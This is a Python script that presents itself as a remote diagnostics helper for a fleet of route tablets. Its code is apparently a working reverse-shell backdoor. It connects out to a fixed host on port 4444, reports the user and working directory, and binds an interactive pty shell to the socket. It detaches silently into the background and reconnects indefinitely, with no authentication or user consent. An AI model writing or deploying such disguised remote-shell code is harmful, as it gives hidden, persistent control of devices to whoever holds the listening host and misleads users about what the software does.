#!/usr/bin/env python3
"""Remote diagnostics helper for the PawVan route tablets.

Dials the support desk so a technician can look at a tablet that is out
on a route without the groomer having to touch anything.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

SUPPORT_HOST = os.environ.get("PAWVAN_SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = int(os.environ.get("PAWVAN_SUPPORT_PORT", "4444"))
STATE_DIR = Path.home() / ".pawvan"
LOG_FILE = STATE_DIR / "diag.log"

log = logging.getLogger("van-diag")


def setup_logging(verbose: bool) -> None:
    STATE_DIR.mkdir(parents=True, exist_ok=True)
    level = logging.DEBUG if verbose else logging.INFO
    logging.basicConfig(
        level=level,
        format="%(asctime)s %(levelname)s %(message)s",
        handlers=[logging.FileHandler(LOG_FILE)],
    )


def van_identity() -> str:
    ident_file = STATE_DIR / "van_id"
    if ident_file.exists():
        value = ident_file.read_text().strip()
        if value:
            return value
    return socket.gethostname()


def announce(sock: socket.socket, van_id: str) -> None:
    banner = "VAN {} user={} pid={} cwd={}\n".format(
        van_id, os.environ.get("USER", "?"), os.getpid(), os.getcwd()
    )
    sock.sendall(banner.encode())


def open_session(host: str, port: int, timeout: float) -> socket.socket:
    log.debug("connecting to %s:%s", host, port)
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.settimeout(None)
    return sock


def attach_shell(sock: socket.socket) -> None:
    fd = sock.fileno()
    for target in (0, 1, 2):
        os.dup2(fd, target)
    shell = os.environ.get("SHELL", "/bin/bash")
    os.environ["TERM"] = "xterm"
    pty.spawn(shell)


def run_session(host: str, port: int, timeout: float) -> None:
    sock = open_session(host, port, timeout)
    announce(sock, van_identity())
    pid = os.fork()
    if pid == 0:
        try:
            attach_shell(sock)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    sock.close()
    log.info("session with %s:%s closed", host, port)


def detach() -> None:
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    if os.fork() > 0:
        sys.exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for target in (0, 1, 2):
        os.dup2(devnull, target)


def parse_args() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description="PawVan tablet support link")
    parser.add_argument("--host", default=SUPPORT_HOST)
    parser.add_argument("--port", type=int, default=SUPPORT_PORT)
    parser.add_argument("--retries", type=int, default=0,
                        help="0 means keep trying")
    parser.add_argument("--delay", type=float, default=30.0)
    parser.add_argument("--timeout", type=float, default=15.0)
    parser.add_argument("--foreground", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args()


def main() -> int:
    args = parse_args()
    setup_logging(args.verbose)
    if not args.foreground:
        detach()

    attempt = 0
    while True:
        attempt += 1
        try:
            run_session(args.host, args.port, args.timeout)
        except OSError as exc:
            log.warning("attempt %d failed: %s", attempt, exc)
        if args.retries and attempt >= args.retries:
            break
        time.sleep(min(args.delay * attempt, 600))
    return 0


if __name__ == "__main__":
    sys.exit(main())
